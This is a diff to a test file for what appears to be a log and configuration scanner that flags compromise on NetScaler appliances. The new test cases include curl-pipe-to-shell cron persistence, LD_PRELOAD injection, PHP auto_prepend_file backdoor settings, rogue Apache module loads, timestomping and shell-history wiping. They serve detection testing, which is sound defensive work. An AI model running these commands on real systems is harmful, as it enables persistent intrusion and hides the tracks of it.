@@ -29,6 +29,8 @@ SETS = (
     "chmod g-w+s /x",
     "chmod u=rwxs,o-w /x",
     "chmod '4755' /x",
+    "setenv LD_PRELOAD /x",
+    "export LD_32_PRELOAD=/x",
 )
 SETS_NOT = (
     "chmod 755 /x",
@@ -41,6 +43,20 @@ SETS_NOT = (
     "chmod -s /x",
     "chmod 00755 /x",
 )
+HIDES = (
+    "touch -r /bin/ls /flash/ns-14.1-47.48.gz",
+    "touch -t 202608022015 /var/netscaler/gui/x.ico",
+    "touch -cmt 202608022015 /x",
+    "touch -d '2026-08-02 20:15:00' /x",
+    "unset HISTFILE",
+    "export HISTFILE=/dev/null",
+    "HISTSIZE=0; id",
+    "history -c",
+    "ln -sf /dev/null /root/.history",
+    "set history = 0",
+)
+"""What gives a file another time, or leaves no history."""
+HIDES_NOT = ("touch /var/x", "touch -c /var/x", "history", "history 20", "set history = 1000", "tail -d touch.txt")
 
 
 def found(line: str, kind: str = "log") -> list[str]:
@@ -55,6 +71,8 @@ def found(line: str, kind: str = "log") -> list[str]:
         *((COMMAND.format("root on (null)", text), []) for text in SETS_NOT),
         (COMMAND.format("(null) on (null)", "id"), ["review"]),
         (COMMAND.format("root on (null)", "id"), []),
+        *((COMMAND.format("root on (null)", text), ["review"]) for text in HIDES),
+        *((COMMAND.format("root on (null)", text), []) for text in HIDES_NOT),
         (ASKED.format("GET /vpn/themes/imgs/x.php?a=1", 200, 71), ["compromise"]),
         (ASKED.format("POST /vpn/theme/x.php", 404, 71), ["attempt"]),
         (ASKED.format(r"GET /vpn/themes/x.php?c=\"id\"", 200, 71), ["compromise"]),
@@ -93,7 +111,15 @@ def test_lines_of_logs(line: str, levels: list[str]) -> None:
         ("* * * * * sh /var/nstmp/.a/ci.sh", ["compromise"]),
         ("@reboot /nsconfig/.x/httpd", ["compromise"]),
         ("*/5 * * * * root curl -sk https://192.0.2.66/x | sh", ["compromise"]),
+        ("*/5 * * * * root curl -sk https://192.0.2.66/x | /bin/sh", ["compromise"]),
+        ("*/5 * * * * root curl -sk https://192.0.2.66/x |perl", ["compromise"]),
+        ('*/5 * * * * root sh -c "$(fetch -qo - http://192.0.2.66/x)"', ["compromise"]),
+        ("*/5 * * * * root cd /var/tmp && ./x", ["compromise"]),
+        ("*/5 * * * * root /netscaler.local/x", ["compromise"]),
+        ("*/5 * * * * root curl -s https://monitor.example.net/heartbeat", []),
+        ("0 3 * * * root find /var/tmp -mtime +7 -delete", []),
         ("*/5 * * * * root /nsconfig/monitors/load.pl | logger", []),
+        ("*/5 * * * * root df -h | grep shm", []),
         ("*/5 * * * * root cd ../x; ls ./y", []),
     ],
 )
@@ -113,6 +139,18 @@ def test_jobs_of_cron(job: str, levels: list[str]) -> None:
         ("curl -sk https://192.0.2.66/x | sh", ["review"]),
         ("b64decode -r x | sh", ["review"]),
         ("# curl -sk https://192.0.2.66/x | sh", []),
+        ("curl -sk https://192.0.2.66/x | /bin/sh", ["review"]),
+        ("setenv LD_PRELOAD /var/x.so", ["compromise"]),
+        ("httpd:setenv=LD_32_PRELOAD=/var/x.so:", ["compromise"]),
+        ("LoadModule x_module /var/nslog/x.so", ["review"]),
+        ('LoadFile "/nsconfig/x.so"', ["review"]),
+        ("LoadModule php5_module libexec/libphp5.so", []),
+        ("LoadModule ssl_module /usr/local/libexec/mod_ssl.so", []),
+        ("php_value auto_prepend_file /var/x", ["compromise"]),
+        ("php_admin_value auto_append_file /nsconfig/x", ["compromise"]),
+        ("php_value memory_limit 64M", []),
+        ('Include "/var/nslog/x.conf"', ["review"]),
+        ("Include /etc/httpd/ssl.conf", []),
         ("AddHandler php5-script .deb", ["compromise"]),
         ("  AddType application/x-httpd-php .php .png", ["compromise"]),
         ("addhandler php5-script .deb", ["compromise"]),
